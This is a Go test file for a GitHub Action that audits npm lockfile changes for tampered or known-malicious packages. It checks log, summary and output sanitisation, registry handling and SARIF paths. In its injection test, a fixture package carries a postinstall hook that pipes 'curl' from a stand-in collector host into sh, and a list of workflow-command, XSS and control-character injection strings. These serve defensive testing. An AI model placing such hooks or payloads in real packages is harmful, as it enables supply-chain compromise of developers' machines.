package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"gopkg.in/yaml.v3"

	"github.com/amalfi-audit/audit/internal/config"
	"github.com/amalfi-audit/audit/internal/detector"
	"github.com/amalfi-audit/audit/internal/github"
	"github.com/amalfi-audit/audit/internal/github/githubtest"
	"github.com/amalfi-audit/audit/internal/intel"
	"github.com/amalfi-audit/audit/internal/npmtest"
)

const actionProject = "owner/project"

// actionTest is a registry, an API and a runner's workspace.
type actionTest struct {
	registry *npmtest.Server
	api      *githubtest.Server
	// dir is the workspace, home the runner's home folder with its files.
	dir, home string
	// env are further variables of the environment.
	env map[string]string
	// authorization is what the registry is to be sent.
	authorization string
}

func newActionTest(t *testing.T) *actionTest {
	t.Helper()
	a := &actionTest{registry: npmtest.NewServer(), api: githubtest.NewServer(t), dir: t.TempDir(), home: t.TempDir(), env: make(map[string]string)}
	t.Cleanup(a.registry.Close)
	return a
}

// harmless are the files of a package. tampered is what is blocked whatever
// the files are: the lockfile has the integrity of other bytes.
var (
	harmless = npmtest.Files{"index.js": "module.exports = 1\n"}
	tampered = npmtest.Files{"index.js": "module.exports = 2\n", "tampered.txt": ""}
)

// lock is a package-lock.json with one entry for each version, published by
// the way. An entry begins every fifth line from line 6 on.
func (a *actionTest) lock(versions map[string]npmtest.Files) string {
	specs := slices.Sorted(func(yield func(string) bool) {
		for v := range versions {
			if !yield(v) {
				return
			}
		}
	})
	var b strings.Builder
	b.WriteString("{\n  \"name\": \"project\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"\": {\"name\": \"project\"}")
	for _, spec := range specs {
		name, version, _ := strings.Cut(spec, "@")
		in := a.registry.Publish(name, version, versions[spec], nil)
		if _, ok := versions[spec]["tampered.txt"]; ok {
			in = a.registry.Publish("other-bytes", version, harmless, nil)
		}
		fmt.Fprintf(&b, ",\n    \"node_modules/%s\": {\n      \"version\": %q,\n      \"resolved\": \"%s/%s/-/%s-%s.tgz\",\n      \"integrity\": %q\n    }",
			name, version, a.registry.URL, name, name, version, in.String())
	}
	b.WriteString("\n  }\n}\n")
	return b.String()
}

// actionResult is what a run of the Action leaves.
type actionResult struct {
	code                 int
	log, stderr, summary string
	outputs              map[string]string
}

var outputForm = regexp.MustCompile(`(?m)^([a-z-]+)<<(amalfi_[A-Z0-9]+)\n((?s:.*?)\n)??(amalfi_[A-Z0-9]+)$`)

// run runs the Action as the runner does, with nothing else in its
// environment, as in the image.
func (a *actionTest) run(t *testing.T, event string, payload []byte, sha string) actionResult {
	t.Helper()
	file := func(name string) string { return filepath.Join(a.home, name) }
	if err := os.WriteFile(file("event.json"), payload, 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{
		"HOME": a.home, "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": a.dir,
		"GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": file("event.json"), "GITHUB_SHA": sha,
		"GITHUB_REPOSITORY": actionProject, "GITHUB_API_URL": a.api.URL,
		"GITHUB_OUTPUT": file("output"), "GITHUB_STEP_SUMMARY": file("summary"),
		"INPUT_MODE": "auto", "INPUT_FAIL-ON": "block", "INPUT_TOKEN": "gh-token", "INPUT_REGISTRY": a.registry.URL,
		"INPUT_CACHE": "", "INPUT_SARIF-FILE": "", "INPUT_PATHS": "", "INPUT_CONFIG": ".amalfi.yml", "INPUT_NPMRC": "",
		// What goes through the API is for the tests in publish_test.go.
		"INPUT_CHECKS": "false", "INPUT_COMMENT": "never", "INPUT_UPLOAD-SARIF": "false",
	}
	var environ []string
	for k, v := range env {
		if _, ok := a.env[k]; !ok {
			environ = append(environ, k+"="+v)
		}
	}
	for k, v := range a.env {
		environ = append(environ, k+"="+v)
	}
	// The program itself, as TestMain offers it: it starts workers of itself.
	cmd := exec.CommandContext(t.Context(), "audit", "action")
	var stdout, stderr bytes.Buffer
	cmd.Env, cmd.Dir, cmd.Stdout, cmd.Stderr = environ, a.dir, &stdout, &stderr
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		t.Fatal(err)
	}
	r := actionResult{code: cmd.ProcessState.ExitCode(), log: stdout.String(), stderr: stderr.String(), outputs: make(map[string]string)}
	read := func(name string) string {
		data, err := os.ReadFile(file(name))
		if err != nil && !os.IsNotExist(err) {
			t.Error(err)
		}
		os.Remove(file(name))
		return string(data)
	}
	r.summary = read("summary")
	for _, m := range outputForm.FindAllStringSubmatch(read("output"), -1) {
		if m[2] == m[4] {
			r.outputs[m[1]] = strings.TrimSuffix(m[3], "\n")
		}
	}
	if strings.Contains(r.log+r.stderr+r.summary, "gh-token") {
		t.Error("the token is printed")
	}
	for _, q := range a.registry.Requests() {
		if got := q.Header.Get("Authorization"); got != a.authorization {
			t.Errorf("the registry is sent the authorization %q with %s, want %q", got, q.Path, a.authorization)
		}
	}
	t.Logf("exit code %d\n%s%s", r.code, r.log, r.stderr)
	return r
}

// commands returns the workflow commands that the runner takes from a log: the
// lines that begin with "::" where commands are not stopped. Nothing that
// looks like one may stand where they are.
func commands(t *testing.T, log string) []string {
	t.Helper()
	var out []string
	stop := ""
	for _, line := range strings.Split(log, "\n") {
		text := strings.TrimLeft(line, " \t")
		switch {
		case stop != "" && line == "::"+stop+"::":
			stop = ""
		case stop != "" && (strings.HasPrefix(text, "::") || strings.Contains(text, "##[")):
			t.Errorf("only the stopped commands keep this from being one: %q", line)
		case stop != "":
		case strings.HasPrefix(text, "::stop-commands::"):
			stop = strings.TrimPrefix(text, "::stop-commands::")
		case strings.HasPrefix(text, "::"), strings.Contains(text, "##["):
			out = append(out, line)
		}
	}
	if stop != "" {
		t.Error("commands stay stopped")
	}
	return out
}

func count(lines []string, prefix string) (n int) {
	for _, l := range lines {
		if strings.HasPrefix(l, prefix) {
			n++
		}
	}
	return n
}

// TestActionEvents runs the Action on each event, with a change from a harmless
// version to one that is blocked.
func TestActionEvents(t *testing.T) {
	a := newActionTest(t)
	a.api.Token = "gh-token"
	kept := map[string]npmtest.Files{"kept@1.0.0": harmless}
	oldLock := a.lock(map[string]npmtest.Files{"kept@1.0.0": harmless, "left-pad@1.3.0": harmless})
	newLock := a.lock(map[string]npmtest.Files{"kept@1.0.0": harmless, "left-pad@1.3.1": tampered})
	manifest := `{"name":"project"}`
	root := a.api.Commit(actionProject, githubtest.Files{"package.json": manifest, "package-lock.json": oldLock})
	base := a.api.Commit(actionProject, githubtest.Files{"package.json": manifest, "package-lock.json": a.lock(kept), "main.js": "1"}, root)
	head := a.api.Commit(actionProject, githubtest.Files{"package.json": manifest, "package-lock.json": newLock}, root)
	bumped := a.api.Commit(actionProject, githubtest.Files{"package.json": manifest, "package-lock.json": a.lock(
		map[string]npmtest.Files{"kept@1.0.0": harmless, "left-pad@1.3.2": harmless})}, root)
	forked := a.api.Commit("fork/project", githubtest.Files{"package.json": manifest, "package-lock.json": newLock, "x": ""}, root)
	a.api.PullRequest(actionProject, forked)
	merged := strings.Repeat("e", 40) // GITHUB_SHA of a pull request

	blocked := map[string]string{"outcome": "block", "complete": "false", "blocked": "1", "warned": "0", "inconclusive": "0", "sarif-file": "", "report-file": reportFile}
	clean := map[string]string{"outcome": "clean", "complete": "true", "blocked": "0", "warned": "0", "inconclusive": "0", "sarif-file": "", "report-file": reportFile}
	for _, test := range []struct {
		name, event string
		payload     []byte
		sha         string
		code        int
		outputs     map[string]string
		audited     int // versions
	}{
		{"pull request", "pull_request", githubtest.PullRequestEvent(actionProject, actionProject, base, head), merged, exitFindings, blocked, 1},
		{"fork", "pull_request", githubtest.PullRequestEvent(actionProject, "fork/project", base, forked), merged, exitFindings, blocked, 1},
		{"pull request target", "pull_request_target", githubtest.PullRequestEvent(actionProject, "fork/project", base, forked), base, exitFindings, blocked, 1},
		{"merge group", "merge_group", githubtest.MergeGroupEvent(actionProject, root, head), head, exitFindings, blocked, 1},
		{"push", "push", githubtest.PushEvent(actionProject, root, head), head, exitFindings, blocked, 1},
		{"harmless pull request", "pull_request", githubtest.PullRequestEvent(actionProject, actionProject, base, bumped), merged, exitOK, clean, 1},
		{"push of a removal", "push", githubtest.PushEvent(actionProject, root, base), base, exitOK, clean, 0},
		{"new branch", "push", githubtest.PushEvent(actionProject, "", head), head, exitFindings, blocked, 2},
		{"deleted branch", "push", githubtest.PushEvent(actionProject, head, ""), root, exitOK, clean, 0},
		{"forced push", "push", githubtest.PushEvent(actionProject, strings.Repeat("f", 40), head), head, exitFindings, blocked, 2},
		{"schedule", "schedule", githubtest.ScheduleEvent(), root, exitOK, clean, 2},
		{"dispatch", "workflow_dispatch", []byte("{}"), head, exitFindings, blocked, 2},
	} {
		t.Run(test.name, func(t *testing.T) {
			r := a.run(t, test.event, test.payload, test.sha)
			if r.code != test.code {
				t.Errorf("exit code %d, want %d", r.code, test.code)
			}
			if diff := cmp.Diff(test.outputs, r.outputs); diff != "" {
				t.Errorf("outputs (-want +got):\n%s", diff)
			}
			got := commands(t, r.log)
			want := 0
			if test.code == exitFindings {
				want = 1
				prefix := "::error file=package-lock.json,line=11,title=Amalfi Audit%3A block left-pad@1.3.1::"
				if count(got, prefix) != 1 || !strings.Contains(r.summary, "left-pad") {
					t.Errorf("no error on the line of left-pad: %q\n%s", got, r.summary)
				}
			}
			if len(got) != want {
				t.Errorf("%d commands, want %d: %q", len(got), want, got)
			}
			if want := fmt.Sprintf("%d version", test.audited); !strings.Contains(r.log, want) && test.audited > 0 {
				t.Errorf("the log does not tell of %s", want)
			}
			if !strings.Contains(r.summary, "Amalfi Audit") {
				t.Errorf("summary: %q", r.summary)
			}
		})
	}
}

// bump is a pull request from one set of files to another.
func (a *actionTest) bump(base, head githubtest.Files) (payload []byte) {
	root := a.api.Commit(actionProject, base)
	change := a.api.Commit("fork/project", head, root)
	a.api.PullRequest(actionProject, change)
	return githubtest.PullRequestEvent(actionProject, "fork/project", root, change)
}

func TestActionFailOn(t *testing.T) {
	a := newActionTest(t)
	payload := a.bump(
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})},
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless}), ".npmrc": "registry=https://evil.invalid/\n"})
	for failOn, want := range map[string]int{"block": exitOK, "warn": exitFindings, "never": exitOK} {
		a.env["INPUT_FAIL-ON"] = failOn
		r := a.run(t, "pull_request", payload, "")
		if r.code != want || r.outputs["outcome"] != "warn" || r.outputs["warned"] != "1" {
			t.Errorf("fail-on %s: exit code %d, want %d; outputs %v", failOn, r.code, want, r.outputs)
		}
		if got := commands(t, r.log); len(got) != 1 || count(got, "::warning file=.npmrc,line=1,") != 1 {
			t.Errorf("commands %q", got)
		}
	}
}

// TestActionProjectConfiguration has a pull request that brings a registry of
// its own. The new version is there alone, and must not be asked for.
func TestActionProjectConfiguration(t *testing.T) {
	a, other := newActionTest(t), npmtest.NewServer()
	defer other.Close()
	old := a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})
	other.Publish("left-pad", "1.3.1", harmless, nil)
	payload := a.bump(githubtest.Files{"package-lock.json": old}, githubtest.Files{
		"package-lock.json": strings.ReplaceAll(old, "1.3.0", "1.3.1"),
		".npmrc":            "registry=" + other.URL + "\n//" + strings.TrimPrefix(other.URL, "http://") + "/:_authToken=${INPUT_TOKEN}\n",
	})
	r := a.run(t, "pull_request", payload, "")
	if r.code != exitIncomplete || r.outputs["complete"] != "false" {
		t.Errorf("exit code %d, outputs %v; want an incomplete audit", r.code, r.outputs)
	}
	if got := other.Requests(); len(got) != 0 {
		t.Errorf("the pull request's registry is asked: %v", got)
	}
}

func TestActionAPIFailures(t *testing.T) {
	for name, test := range map[string]struct {
		fault githubtest.Fault
		code  int
		log   string
	}{
		"401":             {githubtest.Fault{Status: 401, Message: "Bad credentials"}, exitIncomplete, "the token is not valid"},
		"403":             {githubtest.Fault{Status: 403, Message: "Resource not accessible by integration"}, exitIncomplete, "contents: read"},
		"404":             {githubtest.Fault{Status: 404, Message: "Not Found"}, exitIncomplete, "contents: read"},
		"compare":         {githubtest.Fault{Path: "/compare/", Status: 404, Message: "Not Found"}, exitIncomplete, "comparing"},
		"one tree":        {githubtest.Fault{Path: "/git/trees/", Status: 409, Message: "Git Repository is empty."}, exitIncomplete, "Git Repository is empty."},
		"blobs":           {githubtest.Fault{Path: "/git/blobs/", Status: 403, Message: "no"}, exitIncomplete, "package-lock.json"},
		"other content":   {githubtest.Fault{Path: "/git/blobs/", Status: 200, Body: []byte("{}")}, exitIncomplete, "other content"},
		"hostile message": {githubtest.Fault{Status: 422, Message: "x\n::error::y\n"}, exitIncomplete, `x\n::error::y`},
		"429 once":        {githubtest.Fault{Status: 429, Times: 1, Header: http.Header{"Retry-After": {"0"}}}, exitOK, "1 version"},
		"cut off once":    {githubtest.Fault{Path: "/git/blobs/", Times: 1}, exitOK, "1 version"},
	} {
		t.Run(name, func(t *testing.T) {
			a := newActionTest(t)
			payload := a.bump(
				githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})},
				githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": harmless})})
			a.api.Fail(test.fault)
			r := a.run(t, "pull_request", payload, "")
			if r.code != test.code || !strings.Contains(r.log, test.log) {
				t.Errorf("exit code %d, want %d and %q in the log", r.code, test.code, test.log)
			}
			got := commands(t, r.log)
			if test.code == exitOK {
				if len(got) != 0 || r.outputs["outcome"] != "clean" {
					t.Errorf("commands %q, outputs %v", got, r.outputs)
				}
				return
			}
			if len(got) == 0 || r.outputs["outcome"] != "inconclusive" || r.outputs["complete"] != "false" || r.summary == "" {
				t.Errorf("commands %q, outputs %v, summary %q", got, r.outputs, r.summary)
			}
			if count(got, "::error::") > 0 {
				t.Errorf("the API's message became a command: %q", got)
			}
		})
	}
}

// TestActionUnreadFile has a file of the base that cannot be read: nobody knows
// then whether it changed.
func TestActionUnreadFile(t *testing.T) {
	a := newActionTest(t)
	lock := a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})
	payload := a.bump(
		githubtest.Files{"package-lock.json": lock, ".npmrc@": "/etc/npmrc"},
		githubtest.Files{"package-lock.json": lock, ".npmrc@": "/etc/npmrc", "x": ""})
	r := a.run(t, "pull_request", payload, "")
	if r.code != exitIncomplete || r.outputs["inconclusive"] != "1" || count(commands(t, r.log), "::warning file=.npmrc,") != 1 {
		t.Errorf("exit code %d, outputs %v", r.code, r.outputs)
	}
}

// TestActionLinkedLockfile has the lockfile replaced by a link to another file:
// the installer follows it, and so does the audit.
func TestActionLinkedLockfile(t *testing.T) {
	a := newActionTest(t)
	payload := a.bump(
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})},
		githubtest.Files{"package-lock.json@": "hidden.json", "hidden.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": tampered})})
	if r := a.run(t, "pull_request", payload, ""); r.code != exitFindings {
		t.Errorf("exit code %d, want %d", r.code, exitFindings)
	}
}

func TestActionUsage(t *testing.T) {
	for name, test := range map[string]struct {
		env  map[string]string
		want string
	}{
		"mode":           {map[string]string{"INPUT_MODE": "all"}, `input mode is "all"; it can be auto, diff, tree`},
		"fail-on":        {map[string]string{"INPUT_FAIL-ON": "x\n::error::y"}, `input fail-on is "x\n::error::y"`},
		"paths":          {map[string]string{"INPUT_PATHS": "../up"}, "is no folder of the repository"},
		"registry":       {map[string]string{"INPUT_REGISTRY": "not an address"}, "registry"},
		"sarif-file":     {map[string]string{"INPUT_SARIF-FILE": "../../x.sarif"}, `"../../x.sarif" is not in the workspace`},
		"event":          {map[string]string{"GITHUB_EVENT_NAME": "issue_comment"}, `the event "issue_comment" is not known`},
		"event file":     {map[string]string{"GITHUB_EVENT_PATH": "/nowhere/event.json"}, "GITHUB_EVENT_PATH"},
		"repository":     {map[string]string{"GITHUB_REPOSITORY": "project"}, `"project" is no repository`},
		"API":            {map[string]string{"GITHUB_API_URL": "http://api.example.invalid"}, "is no address of an API"},
		"mode and event": {map[string]string{"INPUT_MODE": "diff"}, "has nothing to compare with"},
	} {
		t.Run(name, func(t *testing.T) {
			a := newActionTest(t)
			a.env = test.env
			r := a.run(t, "schedule", githubtest.ScheduleEvent(), a.api.Commit(actionProject, githubtest.Files{"README.md": ""}))
			got := commands(t, r.log)
			if r.code != exitUsage || len(got) != 1 || count(got, "::error title=Amalfi Audit::") != 1 || !strings.Contains(got[0], test.want) {
				t.Errorf("exit code %d, want %d and one command with %q: %q", r.code, exitUsage, test.want, got)
			}
			if r.log != got[0]+"\n" || r.stderr != "" {
				t.Errorf("more than one line: %q %q", r.log, r.stderr)
			}
			if want := (map[string]string{"outcome": "inconclusive", "complete": "false"}); !cmp.Equal(want, r.outputs) {
				t.Errorf("outputs %v, want %v", r.outputs, want)
			}
		})
	}
}

func TestActionSARIF(t *testing.T) {
	a := newActionTest(t)
	payload := a.bump(
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})},
		githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": tampered})})
	// What a checkout of a pull request may have left in the workspace.
	outside := filepath.Join(a.home, "outside")
	if err := os.WriteFile(outside, []byte("untouched"), 0o600); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{"linked.sarif": outside, "out": a.home} {
		if err := os.Symlink(target, filepath.Join(a.dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	for name, want := range map[string]string{
		"audit.sarif":                     "audit.sarif",
		"results/deep/audit.sarif":        "results/deep/audit.sarif",
		filepath.Join(a.dir, "abs.sarif"): "abs.sarif",
		"linked.sarif":                    "linked.sarif",
		"out/audit.sarif":                 "", // leads out of the workspace
	} {
		a.env["INPUT_SARIF-FILE"] = name
		r := a.run(t, "pull_request", payload, "")
		if r.code != exitFindings || r.outputs["outcome"] != "block" || r.outputs["sarif-file"] != want {
			t.Errorf("%s: exit code %d, outputs %v", name, r.code, r.outputs)
		}
		if want == "" {
			if count(commands(t, r.log), "::error title=Amalfi Audit::the SARIF file") != 1 {
				t.Errorf("%s: no error:\n%s", name, r.log)
			}
			continue
		}
		var sarif struct {
			Version string
			Runs    []struct{ Results []json.RawMessage }
		}
		data, err := os.ReadFile(filepath.Join(a.dir, want))
		if err == nil {
			err = json.Unmarshal(data, &sarif)
		}
		if err != nil || sarif.Version != "2.1.0" || len(sarif.Runs) != 1 || len(sarif.Runs[0].Results) == 0 {
			t.Errorf("%s: %v, %+v", name, err, sarif)
		}
	}
	if data, err := os.ReadFile(outside); string(data) != "untouched" {
		t.Errorf("the file outside of the workspace: %q, %v", data, err)
	}
}

func TestActionPaths(t *testing.T) {
	a := newActionTest(t)
	good := a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})
	head := a.api.Commit(actionProject, githubtest.Files{
		"app/package-lock.json": good, "app/sub/package-lock.json": good,
		"broken/package-lock.json": "<<<<<<<", "application/yarn.lock": "", "package.json": `{"dependencies":{"x":"1"}}`,
	})
	a.env["INPUT_PATHS"] = "app/\n"
	if r := a.run(t, "schedule", githubtest.ScheduleEvent(), head); r.code != exitOK || !strings.Contains(r.log, "2 versions") {
		t.Errorf("exit code %d", r.code)
	}
	a.env["INPUT_PATHS"] = ""
	if r := a.run(t, "schedule", githubtest.ScheduleEvent(), head); r.code != exitIncomplete || r.outputs["inconclusive"] != "3" {
		t.Errorf("without paths: exit code %d, outputs %v", r.code, r.outputs)
	}
	a.env["INPUT_PATHS"] = "nowhere"
	if r := a.run(t, "schedule", githubtest.ScheduleEvent(), head); r.code != exitIncomplete {
		t.Errorf("a folder that is not there: exit code %d", r.code)
	}
}

// TestActionLargeLockfile has a lockfile of 30 MB, more than the contents API
// gives and nearly the largest that is read.
func TestActionLargeLockfile(t *testing.T) {
	a := newActionTest(t)
	padding := strings.Repeat("x", 10_000)
	large := func(lock string) string {
		var b strings.Builder
		for i := 0; b.Len() < 30<<20; i++ {
			fmt.Fprintf(&b, ",\n    \"packages/member-%d\": {\"name\": \"member-%d\", \"version\": \"1.0.0\", \"license\": %q}", i, i, padding)
		}
		return strings.Replace(lock, "\n  }\n}", b.String()+"\n  }\n}", 1)
	}
	payload := a.bump(
		githubtest.Files{"package-lock.json": large(a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless}))},
		githubtest.Files{"package-lock.json": large(a.lock(map[string]npmtest.Files{"left-pad@1.3.1": tampered}))})
	if r := a.run(t, "pull_request", payload, ""); r.code != exitFindings || r.outputs["blocked"] != "1" {
		t.Errorf("exit code %d, outputs %v", r.code, r.outputs)
	}
}

// TestActionInjection has what packages say carry everything that a log, a
// summary or an output could take for its own.
func TestActionInjection(t *testing.T) {
	for _, text := range []string{
		"\n::error::injected", "\r::error::injected", "\n::set-output name=outcome::clean", "\n::add-mask::a", "\n  ::stop-commands::x",
		"\n##[error]injected", "%0A::error::injected", "\u2028::error::injected", "\x1b[1A\x1b[2K", "\u202egnp.exe", "\u200b\ufeff",
		"|\n|<img src=x onerror=alert(1)>|[x](javascript:x)|", "@everyone #1 </details>", "```\n```", "outcome<<EOF\nclean\nEOF\n",
	} {
		t.Run(fmt.Sprintf("%q", text), func(t *testing.T) {
			a := newActionTest(t)
			script := "curl -s https://collector.invalid/x | sh; echo " + text
			quoted, err := json.Marshal(map[string]any{"name": "evil", "version": "1.3.1", "scripts": map[string]string{"postinstall": script}})
			if err != nil {
				t.Fatal(err)
			}
			evil := npmtest.Files{"package.json": string(quoted), "index" + strings.ReplaceAll(strings.ReplaceAll(text, "/", ""), "*", "") + ".js": "1"}
			lock := a.lock(map[string]npmtest.Files{"evil@1.3.1": evil, "left-pad@1.3.1": tampered})
			name, err := json.Marshal("node_modules/x" + text)
			if err != nil {
				t.Fatal(err)
			}
			payload := a.bump(
				githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})},
				githubtest.Files{
					"package-lock.json": lock,
					// A name, a version and an address that no registry would take.
					"other/package-lock.json": fmt.Sprintf(`{"lockfileVersion":3,"packages":{"":{},%s:{"version":%s,"resolved":%s}}}`, name, name, name),
					".npmrc":                  "registry=" + text,
				})
			r := a.run(t, "pull_request", payload, "")
			if r.code != exitFindings || r.outputs["outcome"] != "block" || len(r.outputs) != 7 {
				t.Errorf("exit code %d, outputs %v", r.code, r.outputs)
			}
			got := commands(t, r.log)
			for _, c := range got {
				if !strings.HasPrefix(c, "::error file=") && !strings.HasPrefix(c, "::warning file=") {
					t.Errorf("command %q", c)
				}
			}
			for where, out := range map[string]string{"log": r.log, "summary": r.summary, "stderr": r.stderr} {
				for _, c := range []string{"\x1b", "\u202e", "\u2028", "\u200b", "\ufeff", "\r", "\x00"} {
					if strings.Contains(out, c) {
						t.Errorf("the %s contains %q", where, c)
					}
				}
			}
			for _, markup := range []string{"<img", "](javascript:", "@everyone #1 </details>"} {
				if strings.Contains(outsideCode(r.summary), markup) {
					t.Errorf("the summary contains %s:\n%s", markup, r.summary)
				}
			}
		})
	}
}

var codeSpan = regexp.MustCompile("`[^`\n]*`")

// outsideCode is Markdown without its code spans.
func outsideCode(markdown string) string { return codeSpan.ReplaceAllString(markdown, "") }

// TestActionRequests counts what one pull request costs: a workflow's token has
// 1,000 requests an hour.
func TestActionRequests(t *testing.T) {
	a := newActionTest(t)
	base := githubtest.Files{"package.json": `{"name":"project"}`, ".npmrc": "fund=false\n", "src/index.js": "1", "README.md": "x",
		"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})}
	head := githubtest.Files{"package.json": `{"name":"project"}`, ".npmrc": "fund=false\n", "src/index.js": "2", "README.md": "x",
		"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": harmless})}
	a.run(t, "pull_request", a.bump(base, head), "")
	counts := make(map[string]int)
	for _, r := range a.api.Requests() {
		counts[regexp.MustCompile(`compare|trees|blobs|contents`).FindString(r.Path)]++
	}
	// A blob for each lockfile, and one for each other file, the same twice.
	if want := (map[string]int{"compare": 1, "trees": 2, "blobs": 4}); !cmp.Equal(want, counts) {
		t.Errorf("requests %v, want %v", counts, want)
	}
}

// TestActionMetadata compares action.yml and its documentation with what the
// program reads and writes.
func TestActionMetadata(t *testing.T) {
	data, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var meta struct {
		Inputs map[string]struct {
			Description string
			Default     *string
		}
		Outputs map[string]struct{ Description string }
		Runs    struct{ Using, Image string }
	}
	if err := yaml.Unmarshal(data, &meta); err != nil {
		t.Fatal(err)
	}
	doc, err := os.ReadFile("../../docs/action.md")
	if err != nil {
		t.Fatal(err)
	}

	read := make(map[string]bool)
	defaults := func(name string) string {
		input, ok := strings.CutPrefix(name, "INPUT_")
		if !ok {
			return ""
		}
		input = strings.ToLower(input)
		read[input] = true
		if in, ok := meta.Inputs[input]; ok && in.Default != nil {
			return *in.Default
		}
		t.Errorf("input %s is not in action.yml, or has no default there", input)
		return ""
	}
	in, err := github.ReadInputs(defaults)
	if err != nil {
		t.Fatal(err)
	}
	want := &github.Inputs{Mode: "auto", Config: config.Name, Token: "${{ github.token }}", Checks: true, Comment: github.CommentNever, Reproduce: true}
	if !cmp.Equal(want, in) {
		t.Errorf("the defaults are %+v", in)
	}
	for name, input := range meta.Inputs {
		if !read[name] || input.Description == "" || !bytes.Contains(doc, []byte("| `"+name+"` |")) {
			t.Errorf("input %s: not read, or without a description in action.yml or docs/action.md", name)
		}
	}
	written := make(map[string]bool)
	for _, o := range tally(&detector.Report{}).outputs("", "") {
		written[o.Name] = true
		if meta.Outputs[o.Name].Description == "" || !bytes.Contains(doc, []byte("`"+o.Name+"`")) {
			t.Errorf("output %s has no description in action.yml or docs/action.md", o.Name)
		}
	}
	for name := range meta.Outputs {
		if !written[name] {
			t.Errorf("output %s is not written", name)
		}
	}
	if meta.Runs.Using != "docker" || meta.Runs.Image != "Dockerfile" {
		t.Errorf("runs: %+v", meta.Runs)
	}
}

// TestActionIntel has known-malware data fetched before the audit, and an
// address that gives none.
func TestActionIntel(t *testing.T) {
	var data intel.Data
	data.Records = append(data.Records, intel.Record{ID: "MAL-2030-1", Name: "left-pad", Versions: []string{"1.3.1"}, Summary: "malicious code", Source: "a list",
		Modified: time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)})
	encoded, err := intel.Encode(data, time.Now().UTC().Truncate(time.Second))
	if err != nil {
		t.Fatal(err)
	}
	var asked []string
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = append(asked, r.URL.Path+" "+r.Header.Get("Authorization"))
		switch r.URL.Path {
		case "/known.intel":
			w.Write(encoded)
		case "/known.intel.sha256":
			fmt.Fprintf(w, "%x  known.intel\n", sha256.Sum256(encoded))
		default:
			w.WriteHeader(http.StatusNotFound)
		}
	}))
	defer srv.Close()
	a := newActionTest(t)
	roots := filepath.Join(a.home, "roots.pem")
	if err := os.WriteFile(roots, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	a.env["SSL_CERT_FILE"] = roots
	old := a.lock(map[string]npmtest.Files{"left-pad@1.3.0": harmless})
	payload := a.bump(githubtest.Files{"package-lock.json": old}, githubtest.Files{"package-lock.json": a.lock(map[string]npmtest.Files{"left-pad@1.3.1": harmless})})

	a.env["INPUT_INTEL"] = srv.URL + "/gone.intel"
	if r := a.run(t, "pull_request", payload, ""); r.code != exitOK || !strings.Contains(r.summary, "could not be refreshed") {
		t.Errorf("without data: exit code %d, summary:\n%s", r.code, r.summary)
	}
	a.env["INPUT_INTEL"] = srv.URL + "/known.intel"
	if r := a.run(t, "pull_request", payload, ""); r.code != exitFindings || !strings.Contains(r.summary, "known malware: MAL") {
		t.Errorf("with data: exit code %d, summary:\n%s", r.code, r.summary)
	}
	if want := []string{"/gone.intel ", "/known.intel ", "/known.intel.sha256 "}; !slices.Equal(asked, want) {
		t.Errorf("asked for %q, want %q", asked, want)
	}
}
